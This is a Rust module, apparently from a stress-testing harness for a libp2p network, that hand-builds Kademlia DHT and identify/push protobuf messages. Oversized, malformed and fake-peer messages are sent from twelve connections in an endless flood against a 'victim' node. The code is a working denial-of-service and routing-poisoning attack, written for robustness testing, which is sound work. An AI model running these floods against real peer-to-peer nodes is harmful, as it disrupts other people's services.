//! Attacks on the DHT and on who one says to be, in bytes written by hand.

use std::time::Duration;

use anyhow::Result;
use futures::{AsyncReadExt as _, AsyncWriteExt as _, future::join_all};
use libp2p::{StreamProtocol, identity::Keypair};

use crate::{Victim, begun, stranger::Stranger};

const STRANGERS: usize = 12;
/// Messages that each stranger sends before the attack counts as begun.
const FIRST: usize = 200;

fn varint(mut value: usize, out: &mut Vec<u8>) {
    while value >= 0x80 {
        out.push((value & 0x7f) as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
}

/// A length-delimited field of a protobuf.
fn field(number: usize, bytes: &[u8], out: &mut Vec<u8>) {
    varint(number << 3 | 2, out);
    varint(bytes.len(), out);
    out.extend_from_slice(bytes);
}

fn framed(message: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    varint(message.len(), &mut out);
    out.extend_from_slice(message);
    out
}

/// `ADD_PROVIDER`, `GET_PROVIDERS`, `FIND_NODE` or a record, under a key, naming many peers.
fn kad_message(kind: u8, peers: usize) -> Vec<u8> {
    let mut message = vec![1 << 3, kind];
    field(2, &rand::random::<[u8; 32]>(), &mut message);
    for _ in 0..peers {
        let mut peer = Vec::new();
        field(1, &Keypair::generate_ed25519().public().to_peer_id().to_bytes(), &mut peer);
        field(2, &[4, 127, 0, 0, 1, 6, 0, 80], &mut peer);
        field(9, &peer, &mut message);
    }
    if kind == 0 {
        let mut record = Vec::new();
        field(1, &rand::random::<[u8; 32]>(), &mut record);
        field(5, &[7; 8000], &mut record);
        field(3, &record, &mut message);
    }
    message
}

pub(crate) async fn flood(victim: Victim) -> Result<()> {
    let protocol = StreamProtocol::try_from_owned(format!("/hayloft/{}/kad/1", victim.network))?;
    let packets: Vec<Vec<u8>> = vec![
        framed(&kad_message(2, 1)),
        framed(&kad_message(2, 100)),
        framed(&kad_message(3, 0)),
        framed(&kad_message(4, 0)),
        framed(&kad_message(0, 0)),
        framed(&kad_message(4, 2000)),
        framed(&[0xff; 4000]),
        vec![0xff; 64],
        vec![0x80, 0x80, 0x40],
    ];
    on_all(victim, &protocol, &packets).await
}

/// `identify/push`, over and over: long lists of addresses and protocols, oversized and malformed ones.
pub(crate) async fn identify(victim: Victim) -> Result<()> {
    let protocol = StreamProtocol::new("/ipfs/id/push/1.0.0");
    let (mut listen, mut names) = (Vec::new(), Vec::new());
    for port in 0..300_u16 {
        let [high, low] = port.to_be_bytes();
        field(2, &[4, 127, 0, 0, 1, 6, high, low], &mut listen);
        field(3, format!("/made/up/{port}").as_bytes(), &mut names);
    }
    let packets =
        vec![framed(&listen), framed(&names), framed(&[listen, names].concat()), framed(&[7; 60_000])];
    on_all(victim, &protocol, &packets).await
}

async fn on_all(victim: Victim, protocol: &StreamProtocol, packets: &[Vec<u8>]) -> Result<()> {
    let strangers = join_all((0..STRANGERS).map(|number| {
        let address = if number % 2 == 0 { &victim.quic } else { &victim.tcp };
        Stranger::connect(address, victim.peer)
    }));
    let strangers: Vec<Stranger> = strangers.await.into_iter().collect::<Result<_>>()?;
    let first = join_all(strangers.iter().map(|stranger| send(stranger, protocol, packets, FIRST)));
    let sent: usize = first.await.into_iter().sum();
    begun(sent);
    join_all(strangers.iter().map(|stranger| send(stranger, protocol, packets, usize::MAX))).await;
    Ok(())
}

/// Sends that many messages; answers how many the other side took.
async fn send(stranger: &Stranger, protocol: &StreamProtocol, packets: &[Vec<u8>], count: usize) -> usize {
    let mut taken = 0;
    for number in 0..count {
        let Ok(mut stream) = stranger.open(protocol).await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        let packet = &packets[number % packets.len()];
        taken += usize::from(stream.write_all(packet).await.is_ok() && stream.close().await.is_ok());
        let mut answer = [0; 1024];
        let _ = tokio::time::timeout(Duration::from_millis(50), stream.read(&mut answer)).await;
    }
    taken
}
